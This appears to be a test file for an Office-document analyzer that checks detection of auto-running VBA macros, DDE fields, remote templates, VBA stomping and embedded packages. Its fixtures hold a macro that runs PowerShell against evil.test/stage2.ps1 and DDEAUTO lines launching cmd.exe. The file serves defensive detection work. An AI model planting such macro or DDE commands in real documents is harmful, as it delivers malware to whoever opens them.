import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { makeZip } from '../../../../test/harness/evidence/archives.ts'
import { makeCompound, type Made } from '../../../../test/harness/evidence/compound.ts'
import { fuzz, linesOf, takenOf } from '../../../../test/harness/evidence/fuzz.ts'
import { formats } from '../formats.ts'
import { budgetOf } from '../reader/budget.ts'
import { ole } from './ole.ts'
import { ooxml } from './ooxml.ts'
import { unpackVba } from './vba.ts'

/** Letters only, no copies: the simplest packing there is. */
function packVba(text: string): Buffer {
  const chunks: Buffer[] = [Buffer.from([1])]
  for (let from = 0; from < text.length; from += 3600) {
    const letters = Buffer.from(text.slice(from, from + 3600), 'latin1')
    const tokens: Buffer[] = []
    for (let at = 0; at < letters.length; at += 8) tokens.push(Buffer.from([0]), letters.subarray(at, at + 8))
    const body = Buffer.concat(tokens)
    const head = Buffer.alloc(2)
    head.writeUInt16LE(0xb000 | (body.length - 1))
    chunks.push(head, body)
  }
  return Buffer.concat(chunks)
}

const record = (id: number, data: Buffer) => {
  const head = Buffer.alloc(6)
  head.writeUInt16LE(id)
  head.writeUInt32LE(data.length, 2)
  return Buffer.concat([head, data])
}
const from = (offset: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(offset)
  return bytes
}

const code = `Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
  CreateObject("WScript.Shell").Run "powershell -enc http://evil.test/stage2.ps1"
End Sub
`
const macros: Made = {
  VBA: {
    dir: packVba(
      Buffer.concat([
        record(3, Buffer.from([0xe4, 4])),
        // The version says four bytes and has six.
        Buffer.concat([Buffer.from([9, 0, 4, 0, 0, 0]), Buffer.alloc(6)]),
        record(0x19, Buffer.from('ThisDocument')),
        record(0x1a, Buffer.from('ThisDocument')),
        record(0x32, Buffer.from('ThisDocument', 'utf16le')),
        record(0x31, from(10)),
        record(0x19, Buffer.from('Stomped')),
        record(0x1a, Buffer.from('Stomped')),
        record(0x31, from(3000)),
      ]).toString('latin1'),
    ),
    ThisDocument: Buffer.concat([Buffer.alloc(10, 0xaa), packVba(code)]),
    Stomped: Buffer.alloc(5000, 0xbb),
  },
}

const propertySet = (values: Record<number, Buffer>) => {
  const entries = Object.entries(values)
  let at = 8 + entries.length * 8
  const index: Buffer[] = []
  for (const [id, value] of entries) {
    index.push(from(Number(id)), from(at))
    at += value.length
  }
  const head = Buffer.alloc(48)
  head.writeUInt16LE(0xfffe)
  head.writeUInt32LE(1, 24)
  head.writeUInt32LE(48, 44)
  return Buffer.concat([head, from(at), from(entries.length), ...index, ...entries.map(([, value]) => value)])
}
const narrow = (text: string) => Buffer.concat([from(30), from(text.length + 1), Buffer.from(`${text}\0`)])
const time = (text: string) => {
  const bytes = Buffer.alloc(12)
  bytes.writeUInt32LE(64)
  bytes.writeBigUInt64LE(BigInt(Date.parse(text) + 11_644_473_600_000) * 10_000n, 4)
  return bytes
}

const packaged = Buffer.concat([
  from(0),
  Buffer.from([2, 0]),
  Buffer.from('invoice.js\0C:\\Users\\mallory\\invoice.js\0'),
  from(0x30000),
  from(5),
  Buffer.from('temp\0'),
  from(11),
  Buffer.from('alert("hi")'),
])
const word = makeCompound({
  WordDocument: Buffer.concat([Buffer.alloc(512), Buffer.from('\x13 DDEAUTO c:\\windows\\cmd.exe "/k calc" \x14')]),
  '\u0005SummaryInformation': propertySet({
    4: narrow('Mallory'),
    8: narrow('Trudy'),
    12: time('2026-03-01T08:00:00Z'),
    13: time('2026-03-02T08:00:00Z'),
  }),
  Macros: macros,
  ObjectPool: { _123: { '\u0001Ole10Native': packaged } },
})
const sheet = (name: string, hidden: number, kind: number) => {
  const data = Buffer.concat([from(0), Buffer.from([hidden, kind, name.length, 0]), Buffer.from(name)])
  const head = Buffer.alloc(4)
  head.writeUInt16LE(0x85)
  head.writeUInt16LE(data.length, 2)
  return Buffer.concat([head, data])
}
const workbook = (...records: Buffer[]) =>
  makeCompound({ Workbook: Buffer.concat([...records, Buffer.alloc(4096, 0x0a)]) })

const details = (lines: Awaited<ReturnType<typeof linesOf>>) =>
  lines.flatMap((line) => (line.kind === 'warning' ? [line.detail] : []))

describe('packing of macros', () => {
  // The examples of the specification, MS-OVBA 3.2.
  it.each([
    ['0119b000616263646566676800696a6b6c6d6e6f70007172737475762e', 'abcdefghijklmnopqrstuv.'],
    [
      '012fb00023616161626364658266007061676869 6a013808616b6c00306d6e6f700671027004107273747576107778797a003c',
      '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa',
    ],
    ['0103b002614500', 'a'.repeat(73)],
  ])('is undone: %s', (packed, text) => {
    expect(unpackVba(Buffer.from(packed.replaceAll(' ', ''), 'hex'), budgetOf()).toString()).toBe(text)
  })

  it('gives no more than a chunk holds, and nothing before the beginning', () => {
    expect(unpackVba(Buffer.from('0103b00261ffff', 'hex'), budgetOf()).length).toBeLessThanOrEqual(4096)
    expect(unpackVba(Buffer.from('0103b001ffff00', 'hex'), budgetOf())).toHaveLength(0)
  })
})

describe('an old Office file', () => {
  it('tells who made it, its macros, and what it holds', async () => {
    const lines = await linesOf(formats, word)
    expect(lines.filter(({ kind }) => kind === 'refused')).toEqual([])
    expect(lines[0]).toMatchObject({
      title: 'Word document',
      facts: expect.arrayContaining([
        { name: 'author', value: 'Mallory' },
        { name: 'macros', value: '2' },
      ]),
    })
    expect(lines.filter((line) => line.kind === 'event').map(({ time: when, what }) => [when, what])).toEqual([
      ['2026-03-01T08:00:00.000Z', 'Document created, as it says, by Mallory'],
      ['2026-03-02T08:00:00.000Z', 'Document saved, as it says, by Trudy'],
    ])
    expect(lines).toContainEqual(
      expect.objectContaining({
        table: 'macros',
        cells: { module: 'ThisDocument', stream: 'Macros/VBA/ThisDocument', code },
      }),
    )
    expect(details(lines)).toEqual([
      'The macro ThisDocument starts by itself: autoopen.',
      'The macro ThisDocument reaches out of the document: createobject, wscript.shell, powershell.',
      'The macro Stomped has compiled code and no source: it was taken out to hide what it does.',
      'A field asks another program to run (DDE): DDEAUTO c:\\windows\\cmd.exe "/k calc".',
    ])
    expect(lines).toContainEqual(expect.objectContaining({ kind: 'observable', value: 'http://evil.test/stage2.ps1' }))
    const child = lines.find((line) => line.kind === 'child')!
    expect(child).toMatchObject({ name: 'invoice.js', size: 11 })
    expect(String(await takenOf(ole, word, child.ref!))).toBe('alert("hi")')
  })

  it.skipIf(!existsSync('/usr/bin/exiftool'))('is read as exiftool reads it, where that is installed', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'office-'))
    writeFileSync(join(folder, 'a.doc'), word)
    const [theirs] = JSON.parse(execFileSync('exiftool', ['-j', join(folder, 'a.doc')], { encoding: 'utf8' }))
    rmSync(folder, { recursive: true })
    const [first] = await linesOf(formats, word)
    const facts = new Map(first?.kind === 'summary' ? first.facts.map(({ name, value }) => [name, value]) : [])
    const ours = [facts.get('author'), facts.get('last saved by'), facts.get('created'), facts.get('last saved')]
    const utc = (text: string) => `${text.slice(0, 10).replaceAll(':', '-')}T${text.slice(11)}.000Z`
    expect(ours).toEqual([theirs.Author, theirs.LastModifiedBy, utc(theirs.CreateDate), utc(theirs.ModifyDate)])
  })

  it('tells sheets of macros, hidden or not, and refuses what is encrypted', async () => {
    const lines = await linesOf(formats, workbook(sheet('Sheet1', 0, 0), sheet('Macro1', 2, 1)))
    expect(details(lines)).toEqual(['The sheet Macro1 holds macros of Excel 4 and is hidden (very hidden).'])
    const locked = await linesOf(formats, workbook(Buffer.from([0x2f, 0, 2, 0, 1, 0])))
    expect(locked.at(-1)).toMatchObject({ kind: 'refused', reason: 'encrypted' })
    const packed = await linesOf(
      formats,
      makeCompound({ EncryptedPackage: Buffer.alloc(5000), EncryptionInfo: Buffer.alloc(100) }),
    )
    expect([packed[0], packed.at(-1)]).toMatchObject([{ title: 'Encrypted Office document' }, { reason: 'encrypted' }])
  })
})

const xml = (text: string) => Buffer.from(`<?xml version="1.0"?>${text}`)
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const document = makeZip([
  { name: '[Content_Types].xml', bytes: xml('<Types/>') },
  {
    name: 'docProps/core.xml',
    bytes: xml(
      '<cp:coreProperties><dc:creator>M&amp;M</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">2026-03-01T08:00:00Z</dcterms:created></cp:coreProperties>',
    ),
  },
  {
    name: 'word/document.xml',
    bytes: xml(
      '<w:p><w:instrText>DDE</w:instrText><w:instrText xml:space="preserve">AUTO "cmd" "/c calc"</w:instrText></w:p>',
    ),
  },
  {
    name: 'word/_rels/settings.xml.rels',
    bytes: xml(
      `<Relationships><Relationship Id="r1" Type="${office}/attachedTemplate" Target="https://evil.test/t.dotm?a=1&amp;b=2" TargetMode="External"/>
      <Relationship Type='${office}/hyperlink' Target='mailto:m@evil.test?subject=x' TargetMode='External'/><Relationship Type="${office}/oleObject" Target="file://///203.0.113.9/share/x" TargetMode="External"/>
      <Relationship Type="${office}/image" Target="media/1.png"/></Relationships>`,
    ),
  },
  { name: 'word/vbaProject.bin', bytes: makeCompound(macros) },
  { name: 'word/embeddings/oleObject1.bin', bytes: Buffer.from('object') },
])

describe('a newer Office file', () => {
  it('tells its macros, what it fetches by itself, and fields that run programs', async () => {
    const lines = await linesOf(formats, document)
    expect(lines.filter(({ kind }) => kind === 'refused')).toEqual([])
    expect(lines[0]).toMatchObject({
      format: 'ooxml',
      title: 'Word document with macros',
      facts: expect.arrayContaining([{ name: 'author', value: 'M&M' }]),
    })
    expect(details(lines)).toEqual([
      'The document fetches https://evil.test/t.dotm?a=1&b=2 by itself when it is opened (attachedTemplate).',
      'The document fetches file://///203.0.113.9/share/x by itself when it is opened (oleObject).',
      'The macro ThisDocument starts by itself: autoopen.',
      'The macro ThisDocument reaches out of the document: createobject, wscript.shell, powershell.',
      'The macro Stomped has compiled code and no source: it was taken out to hide what it does.',
      'A field asks another program to run (DDE): DDEAUTO "cmd" "/c calc".',
    ])
    expect(lines.flatMap((line) => (line.kind === 'observable' ? [`${line.type} ${line.value}`] : []))).toEqual([
      'url https://evil.test/t.dotm?a=1&b=2',
      'mail m@evil.test',
      'other file://///203.0.113.9/share/x',
      'url http://evil.test/stage2.ps1',
    ])
    const children = lines.filter((line) => line.kind === 'child')
    expect(children.map(({ name }) => name)).toEqual(['word/vbaProject.bin', 'word/embeddings/oleObject1.bin'])
    expect(String(await takenOf(ooxml, document, children[1]!.ref!))).toBe('object')
  })

  it('tells macros it cannot read, and stops at a bomb', async () => {
    const broken = await linesOf(
      formats,
      makeZip([{ name: '[Content_Types].xml' }, { name: 'xl/vbaProject.bin', bytes: Buffer.alloc(100) }]),
    )
    expect(details(broken)).toEqual([expect.stringMatching(/^The macros in xl\/vbaProject.bin cannot be read: /)])
    const bomb = await linesOf(
      formats,
      makeZip([{ name: '[Content_Types].xml' }, { name: 'word/document.xml', bytes: Buffer.alloc(40_000_000) }]),
    )
    expect(bomb.at(-1)).toMatchObject({ kind: 'refused', reason: 'too_much' })
  })
})

it.each([
  [ole, [word, workbook(sheet('Macro1', 2, 1))]],
  [ooxml, [document]],
] as const)('$name bears mutated files', async (format, samples) => {
  const { faults, rounds, slowestMs } = await fuzz(format, samples)
  expect(faults).toEqual([])
  expect(rounds).toBeGreaterThan(100)
  expect(slowestMs).toBeLessThan(1500)
})
